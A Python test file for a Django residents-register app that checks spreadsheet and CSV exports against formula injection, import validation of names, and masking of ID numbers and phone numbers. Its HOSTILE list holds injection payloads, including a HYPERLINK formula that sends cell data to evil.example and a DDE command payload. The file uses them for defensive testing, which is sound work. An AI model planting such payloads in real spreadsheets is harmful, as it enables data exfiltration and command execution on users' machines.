"""No text from outside ever reaches a spreadsheet as a formula: the one writer (core.excel) neutralises it, every
export route is walked with hostile values, and names that start like formulas are refused at import."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from pathlib import Path

import openpyxl
import pytest
from django.urls import URLPattern, URLResolver, get_resolver
from django.utils import timezone

from bihuan.core import excel
from bihuan.core.tabular import BAD_NAME, BadCell, cell_text, label_cell, name_cell
from bihuan.testing import bearer, create_household, create_resident

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "=cmd|' /C calc'!A0", "+SUM(1,2)", "-2+3",
           "@SUM(1)", "\t=1+1", "\r=1+1"]
ROOT = Path(__file__).resolve().parents[2]


def formulas(data: bytes) -> list[tuple[str, str, str]]:
    """Every formula cell of a workbook, as (sheet, cell, formula)."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [(ws.title, cell.coordinate, cell.value) for ws in book.worksheets for row in ws.iter_rows()
            for cell in row if cell.data_type == "f"]


# --- the writer ---------------------------------------------------------------------------------------------

@pytest.mark.parametrize("write_only", [False, True])
def test_text_that_starts_like_a_formula_is_written_as_text_and_numbers_stay_numbers(write_only):
    book = excel.workbook(write_only=write_only)
    ws = book.create_sheet("s") if write_only else book.active
    ws.append([*HOSTILE, 42, -7, 3.5, "普通文字", excel.Formula("=SUM(1,2)")])
    data = excel.to_bytes(book)

    assert formulas(data) == [(ws.title, "L1", "=SUM(1,2)")]  # only the app's own formula
    values = [c.value for c in next(openpyxl.load_workbook(io.BytesIO(data)).worksheets[0].iter_rows())]
    assert values[:len(HOSTILE)] == ["'" + v for v in HOSTILE]
    assert values[len(HOSTILE):len(HOSTILE) + 4] == [42, -7, 3.5, "普通文字"]


def test_a_cell_set_directly_through_openpyxl_is_guarded_too():
    book = openpyxl.Workbook()  # even a writer that bypassed core.excel.workbook()
    book.active["A1"] = "=1+1"
    book.active.cell(2, 1, "@x")
    assert formulas(excel.to_bytes(book)) == []


def test_the_csv_writer_neutralises_every_cell():
    out = io.StringIO()
    excel.csv_writer(out).writerows([HOSTILE, [1, -1, "ok"]])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert all(cell.startswith("'") for cell in rows[0]) and rows[1] == ["1", "-1", "ok"]


def test_an_export_reads_back_as_it_was_written():
    assert [cell_text("'" + v) for v in ("=1+1", "+86 138", "-3号楼")] == ["=1+1", "+86 138", "-3号楼"]
    assert cell_text("'ordinary") == "'ordinary"


def test_no_module_makes_a_workbook_or_csv_writer_but_the_one_writer():
    makers = re.compile(r"\bWorkbook\(|csv\.writer\(|xlsxwriter|DictWriter\(")
    offenders = [str(p.relative_to(ROOT)) for p in (ROOT / "bihuan").rglob("*.py")
                 if "tests" not in p.parts and p.name != "excel.py" and makers.search(p.read_text())]
    assert offenders == [], "make workbooks with core.excel.workbook() and CSV with core.excel.csv_writer()"


# --- import refuses what cannot be legitimate ---------------------------------------------------------------

@pytest.mark.parametrize("value", HOSTILE + ["张三1", "李四(外籍)", "<b>王五</b>"])
def test_a_persons_name_that_is_no_name_is_refused(value):
    with pytest.raises(BadCell, match=re.escape(BAD_NAME)):
        name_cell(value)


@pytest.mark.parametrize("value", ["张三", "阿卜杜·热合曼", "Jean-Pierre O'Neil", "  王  五 "])
def test_real_names_pass(value):
    assert name_cell(value) == " ".join(value.split())


def test_a_unit_or_staff_label_may_not_start_like_a_formula():
    with pytest.raises(BadCell):
        label_cell("=1+1")
    assert label_cell("第1网格（3号楼）") == "第1网格（3号楼）"


def test_a_register_import_names_the_row_and_reason_of_a_hostile_name(district):
    from bihuan.register.workbook import import_workbook

    book = excel.workbook()
    book.remove(book.active)
    ws = book.create_sheet("居民")
    ws.append(["户编码", "姓名", "身份证号", "手机号", "性别", "出生日期", "与户主关系", "状态"])
    ws.append([district.household_a.code, "=HYPERLINK(\"http://x\")", "", "", "男", "1980-01-01", "户主", "在住"])
    result = import_workbook(io.BytesIO(excel.to_bytes(book)), acting_user=district.users["commander"])
    assert not result.ok
    assert [(e.row, e.field, e.reason) for e in result.errors] == [(2, "姓名", BAD_NAME)]


def test_a_pushed_row_with_a_hostile_name_is_rejected_with_the_reason(district):
    from bihuan.pushes.importing import create_batch
    from bihuan.pushes.models import PushRow

    data = "姓名,身份证号\n\"=HYPERLINK(\"\"http://x\"\")\",\n".encode()
    batch = create_batch(data, "hostile.csv", source="省大数据中心", unit=district.community_a,
                         acting_user=district.users["community_a"])
    assert list(PushRow.objects.filter(batch=batch).values_list("result", "reason")) == [("rejected", BAD_NAME)]


# --- every export route, with hostile values everywhere ------------------------------------------------------

def export_routes(resolver=None, prefix=""):
    """Every URL pattern that serves a workbook (its route ends in .xlsx), pages and API alike."""
    for p in (resolver or get_resolver()).url_patterns:
        if isinstance(p, URLResolver):
            yield from export_routes(p, prefix + str(p.pattern))
        elif isinstance(p, URLPattern) and str(p.pattern).rstrip("$").endswith(".xlsx"):
            yield prefix + str(p.pattern), p.name


@pytest.fixture
def hostile(district):
    """The base district with hostile text wherever a person or a file can put text."""
    from bihuan.directives.actions import do_issue_directive, do_report_receipt
    from bihuan.directives.models import RECEIPT
    from bihuan.loops.models import Loop
    from bihuan.pushes.importing import create_batch
    from bihuan.register.models import Unit

    d = district
    Unit.objects.filter(pk=d.grid_a.pk).update(name=HOSTILE[0])
    household = create_household(d.grid_a, address=HOSTILE[1])
    for value in HOSTILE:
        create_resident(household, name=value)
    d.users["grid_a"].staff.__class__.objects.filter(pk=d.users["grid_a"].staff.pk).update(name=HOSTILE[2])
    form = [{"key": "notes", "label": HOSTILE[4], "type": "text"}, {"key": "n", "label": "人数", "type": "number"}]
    d.directive = do_issue_directive(title=HOSTILE[3], body="正文", feedback_form=form,
                                     acting_user=d.users["commander"])
    loop = Loop.objects.get(kind=RECEIPT, subject_id=d.directive.pk, owner_unit=d.grid_a)
    do_report_receipt(loop_id=loop.pk, answers={"notes": HOSTILE[0], "n": 3}, acting_user=d.users["grid_a"])
    data = ("姓名,身份证号,手机号,来源地\n" + "".join(f'"{v.replace(chr(34), chr(34) * 2)}",,,"{v.replace(chr(34), chr(34) * 2)}"\n'
                                                   for v in HOSTILE)).encode()
    d.batch = create_batch(data, "=evil.csv", source=HOSTILE[2], unit=d.community_a,
                           acting_user=d.users["community_a"])
    from bihuan.inspections.bulletin import do_create_bulletin  # names units: the grid's name is hostile

    monday = timezone.localdate() - dt.timedelta(days=timezone.localdate().weekday())
    d.bulletin = do_create_bulletin(d.district, monday, acting_user=d.users["commander"])
    from bihuan.checkpoints.actions import do_answer_screening, do_start_campaign

    d.campaign = do_start_campaign(title=HOSTILE[3], since=timezone.localdate(), acting_user=d.users["commander"])
    do_answer_screening(d.campaign, d.household_a, {"present": "2", "needs": HOSTILE[0], "member_change": HOSTILE[1]},
                        acting_user=d.users["grid_a"])
    return d


def fill(route: str, d) -> str:
    values = {"directive_id": d.directive.pk, "id": None, "unit_id": d.district.pk, "batch_id": d.batch.pk,
              "bulletin_id": d.bulletin.pk, "campaign_id": d.campaign.pk}

    def one(match):
        name = match.group(2)
        if name == "id":
            return str(d.batch.pk if "batches" in route else d.directive.pk)
        assert name in values, f"the formula test needs a value for <{name}> in {route}: add it to fill()"
        return str(values[name])

    path = re.sub(r"<(?:(\w+):)?(\w+)>", one, route)
    return "/" + path.lstrip("^").replace("\\", "")


def test_every_export_route_carries_no_formula_it_did_not_write(hostile, client):
    d = hostile
    client.force_login(d.users["commander"])
    routes = sorted(set(export_routes()))
    assert len(routes) >= 9, routes  # the walk found the exports (pages and API)
    token = bearer(d.users["commander"])
    for route, name in routes:
        url = fill(route, d)
        query = f"?unit={d.district.pk}&reveal=1&date=2022-01-01"
        response = (client.get(url + query, **token) if url.startswith("/api/") else client.get(url + query))
        assert response.status_code == 200, (name, url, response.status_code, response.content[:300])
        data = b"".join(response.streaming_content) if response.streaming else response.content
        assert formulas(data) == [], (name, url)


def test_every_export_route_is_masked_by_default(hostile, client):
    """The same walk as above, as the commander (who may reveal): a plain GET of any export carries no full ID number
    or phone of any resident (full values need a POST with a reason and a confirmation: register/tests/
    test_privacy.py)."""
    from bihuan.register.models import Resident

    d = hostile
    clear = [r.reveal_id_number() for r in Resident.objects.exclude(id_hash="")]
    clear += [r.reveal_phone() for r in Resident.objects.exclude(phone_hash="")]
    assert len(clear) > 5
    client.force_login(d.users["commander"])
    token = bearer(d.users["commander"])
    for route, name in sorted(set(export_routes())):
        url = fill(route, d) + f"?unit={d.district.pk}&reveal=1&full=1&date=2022-01-01"
        response = (client.get(url, **token) if url.startswith("/api/") else client.get(url))
        assert response.status_code == 200, (name, url, response.status_code)
        data = b"".join(response.streaming_content) if response.streaming else response.content
        book = openpyxl.load_workbook(io.BytesIO(data))
        text = "\n".join(str(c.value) for ws in book.worksheets for row in ws.iter_rows() for c in row)
        assert not [v for v in clear if v in text], (name, url)
